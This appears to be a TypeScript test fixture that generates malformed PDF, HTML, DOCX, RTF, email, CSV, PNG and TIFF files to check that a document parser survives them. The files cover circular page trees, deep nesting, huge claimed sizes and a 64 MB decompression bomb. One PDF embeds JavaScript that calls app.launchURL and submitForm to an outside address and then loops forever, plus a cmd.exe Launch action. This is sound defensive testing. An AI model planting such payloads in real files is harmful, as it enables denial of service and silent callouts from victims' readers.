// Files whose form is out of all bounds: depth, counts, claimed sizes, loops.
import { crc32, deflateSync } from 'node:zlib';
import { makeDocx } from '../../unit/parse/fixtures/makeZip.ts';
import { BROKEN, type EvilFile } from './evilFile.ts';

const HELVETICA = '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>';

/** @param objects from number 1 on; the first is the catalog */
function pdf(objects: readonly string[], trailer = ''): Buffer {
  let file = '%PDF-1.7\n';
  const offsets = objects.map((body, at) => {
    const offset = file.length;
    file += `${at + 1} 0 obj\n${body}\nendobj\n`;
    return offset;
  });
  const start = file.length;
  file += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${offsets.map((offset) => `${String(offset).padStart(10, '0')} 00000 n \n`).join('')}`;
  return Buffer.from(`${file}trailer\n<< /Size ${objects.length + 1} /Root 1 0 R ${trailer.replace('START', String(start))} >>\nstartxref\n${start}\n%%EOF\n`, 'latin1');
}
const stream = (content: string, entries = ''): string => `<< /Length ${content.length} ${entries} >>\nstream\n${content}\nendstream`;
const WORDS = stream('BT /F1 12 Tf 72 700 Td (Own words) Tj ET');
const page = (more = '', contents = '4 0 R'): string => `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources << /Font << /F1 5 0 R >> /XObject << /X 6 0 R >> >> /Contents ${contents} ${more} >>`;
const onePage = '<< /Type /Pages /Kids [3 0 R] /Count 1 >>';

function evilPdfs(canary: string, address: string): EvilFile[] {
  const catalog = '<< /Type /Catalog /Pages 2 0 R >>';
  const files: readonly (readonly [name: string, content: Buffer, ends: EvilFile['ends']])[] = [
    [
      'actions.pdf',
      pdf([
        `<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (app.launchURL\\("${address}"\\); while\\(1\\);) >> /AA << /WC << /S /Launch /F (${canary}) /Win << /F (cmd.exe) >> >> >> /Names << /JavaScript << /Names [(a) << /S /JavaScript /JS (this.submitForm\\("${address}"\\)) >>] >> >> >>`,
        onePage,
        page(`/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (${address}) >> >> << /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /GoToR /F (${canary}) /D [0 /Fit] >> >>]`),
        WORDS,
        HELVETICA,
        `<< /Type /XObject /Subtype /Form /Ref << /F (${canary}) /Page 0 >> /BBox [0 0 9 9] /Length 0 >>\nstream\n\nendstream`,
      ]),
      ['indexed'],
    ],
    ['external stream.pdf', pdf([catalog, onePage, page(), `<< /Length 0 /F (${canary}) >>\nstream\n\nendstream`, HELVETICA, HELVETICA]), BROKEN],
    ['pages of themselves.pdf', pdf([catalog, '<< /Type /Pages /Kids [2 0 R 2 0 R 2 0 R] /Count 3 >>']), BROKEN],
    ['pages in a circle.pdf', pdf([catalog, '<< /Type /Pages /Kids [3 0 R] /Count 1 >>', '<< /Type /Pages /Parent 2 0 R /Kids [2 0 R 2 0 R] /Count 99999999 >>']), BROKEN],
    ['a million pages.pdf', pdf([catalog, '<< /Type /Pages /Kids [3 0 R] /Count 1000000 >>', page(), WORDS, HELVETICA, HELVETICA]), BROKEN],
    ['one page a hundred thousand times.pdf', pdf([catalog, `<< /Type /Pages /Kids [${'3 0 R '.repeat(100_000)}] /Count 100000 >>`, page('', '7 0 R'), WORDS, HELVETICA, HELVETICA, stream('')]), [...BROKEN, 'timeout']],
    ['table of itself.pdf', pdf([catalog, onePage, page(), WORDS, HELVETICA, HELVETICA], '/Prev START'), BROKEN],
    ['form in itself.pdf', pdf([catalog, onePage, page('', '7 0 R'), WORDS, HELVETICA, stream('/X Do /X Do', '/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X 6 0 R >> >>'), stream('/X Do BT /F1 12 Tf 72 700 Td (Own words) Tj ET')]), [...BROKEN, 'too-much-memory', 'timeout']],
    ['deep arrays.pdf', pdf([catalog, onePage, page(`/Annots ${'['.repeat(500_000)}`), WORDS, HELVETICA, HELVETICA]), BROKEN],
    ['deep dictionaries.pdf', pdf([`<< /Type /Catalog /Pages 2 0 R /A ${'<< /A '.repeat(300_000)}`, onePage, page(), WORDS, HELVETICA, HELVETICA]), BROKEN],
    ['endless page.pdf', pdf([catalog, '<< /Type /Pages /Kids [3 0 R] /Count 1 /MediaBox [0 0 1e30 1e30] >>', page('/UserUnit 1e30'), WORDS, HELVETICA, HELVETICA]), BROKEN],
    ['packed spaces.pdf', pdf([catalog, onePage, page(), stream(deflateSync(Buffer.alloc(64 * 1024 * 1024, ' ')).toString('latin1'), '/Filter /FlateDecode'), HELVETICA, HELVETICA]), BROKEN],
    ['huge numbers.pdf', pdf([catalog, onePage, page(), '<< /Length 99999999999999999999 >>\nstream\nBT (x) Tj ET\nendstream', HELVETICA, HELVETICA], '/Size 4294967295'), BROKEN],
  ];
  return files.map(([name, content, ends]) => ({ name, kind: 'pdf', content, ends }));
}

function chunk(type: string, content: Buffer): Buffer {
  const named = Buffer.concat([Buffer.from(type), content]);
  const [length, sum] = [Buffer.alloc(4), Buffer.alloc(4)];
  length.writeUInt32BE(content.length);
  sum.writeUInt32BE(crc32(named));
  return Buffer.concat([length, named, sum]);
}

/** A few KB that claim to be so many pixels. */
function png(width: number, height: number): Buffer {
  const head = Buffer.alloc(13);
  head.writeUInt32BE(width, 0);
  head.writeUInt32BE(height, 4);
  head[8] = 8;
  return Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 13, 10, 26, 10]), chunk('IHDR', head), chunk('IDAT', deflateSync(Buffer.alloc(16 * 1024 * 1024))), chunk('IEND', Buffer.alloc(0))]);
}

/** One strip that is said to be all of the picture; `next` is where the following directory is said to lie. */
function tiff(width: number, height: number, next = 0): Buffer {
  const tags = [[256, 4, width], [257, 4, height], [258, 3, 8], [259, 3, 1], [262, 3, 1], [273, 4, 8], [277, 3, 1], [278, 4, height], [279, 4, 0xffffffff]] as const;
  const file = Buffer.alloc(8 + 2 + tags.length * 12 + 4);
  file.write('II', 0, 'latin1');
  file.writeUInt16LE(42, 2);
  file.writeUInt32LE(8, 4);
  file.writeUInt16LE(tags.length, 8);
  tags.forEach(([tag, type, value], at) => {
    file.writeUInt16LE(tag, 10 + at * 12);
    file.writeUInt16LE(type, 12 + at * 12);
    file.writeUInt32LE(1, 14 + at * 12);
    file.writeUInt32LE(value, 18 + at * 12);
  });
  file.writeUInt32LE(next, file.length - 4);
  return file;
}

function nestedMail(levels: number, type: (at: number) => string): string {
  const open = Array.from({ length: levels }, (_, at) => `Content-Type: ${type(at)}\r\n\r\n`);
  return `Subject: Own words\r\nMIME-Version: 1.0\r\n${open.map((head, at) => (type(at).startsWith('multipart') ? `${head}--b${at}\r\n` : head)).join('')}Content-Type: text/plain\r\n\r\nOwn words\r\n`;
}

export function evilShapes(canary: string, address: string): EvilFile[] {
  const tooManyPixels = ['damaged', 'too-large', 'ocr-off', 'no-text', 'pages-unread', 'too-much-memory', 'too-much-text'] as const;
  const attributes = Array.from({ length: 1_000_000 }, (_, at) => `a${at}=""`).join(' ');
  return [
    ...evilPdfs(canary, address),
    { name: 'deep.html', kind: 'html', content: `${'<div>'.repeat(100_000)}Own words${'</div>'.repeat(100_000)}`, ends: ['indexed'] },
    { name: 'deep tables.html', kind: 'html', content: `${'<table><tr><td>'.repeat(50_000)}Own words`, ends: ['indexed'] },
    { name: 'attributes.html', kind: 'html', content: `<p ${attributes}>Own words</p>`, ends: ['indexed'] },
    { name: 'attributes.docx', kind: 'docx', content: makeDocx(`<w:p ${attributes}><w:r><w:t>Own words</w:t></w:r></w:p>`), ends: ['indexed', 'damaged'] },
    { name: 'deep.docx', kind: 'docx', content: makeDocx(`${'<w:sdt><w:sdtContent>'.repeat(50_000)}<w:p><w:r><w:t>Own words</w:t></w:r></w:p>${'</w:sdtContent></w:sdt>'.repeat(50_000)}`), ends: ['indexed', 'damaged'] },
    { name: 'deep.rtf', kind: 'rtf', content: `{\\rtf1 Own words ${'{'.repeat(200_000)}${'}'.repeat(200_000)}}`, ends: ['indexed', 'damaged'] },
    { name: 'title without end.html', kind: 'html', content: `<title>${'long '.repeat(1_000_000)}</title><p>Own words</p>`, ends: ['indexed'] },
    { name: 'columns.csv', kind: 'csv', content: `${Array.from({ length: 20_000 }, (_, at) => `c${at}`).join(',')}\n1,2\n`, ends: ['indexed'] },
    { name: 'one line.txt', kind: 'text', content: 'a'.repeat(300_000), ends: ['indexed'] },
    { name: 'one cell.csv', kind: 'csv', content: `a,b\n"${'x'.repeat(200_000)}`, ends: ['indexed'] },
    { name: 'deep.json', kind: 'code', content: '['.repeat(5_000), ends: ['indexed'] },
    { name: 'multiparts.eml', kind: 'eml', content: nestedMail(1_000, (at) => `multipart/mixed; boundary="b${at}"`), ends: BROKEN },
    { name: 'messages in messages.eml', kind: 'eml', content: nestedMail(1_000, () => 'message/rfc822'), ends: [...BROKEN, 'nested-too-deep'] },
    { name: 'headers.eml', kind: 'eml', content: `${'X-A: b\r\n'.repeat(300_000)}\r\nOwn words\r\n`, ends: BROKEN },
    { name: 'pixels.png', kind: 'image', content: png(100_000, 100_000), ends: tooManyPixels },
    { name: 'no pixels.png', kind: 'image', content: png(0, 0), ends: tooManyPixels },
    { name: 'pixels.tif', kind: 'image', content: tiff(0xffffffff, 0xffffffff), ends: tooManyPixels },
    { name: 'loop.tif', kind: 'image', content: tiff(8, 8, 8), ends: tooManyPixels },
  ];
}
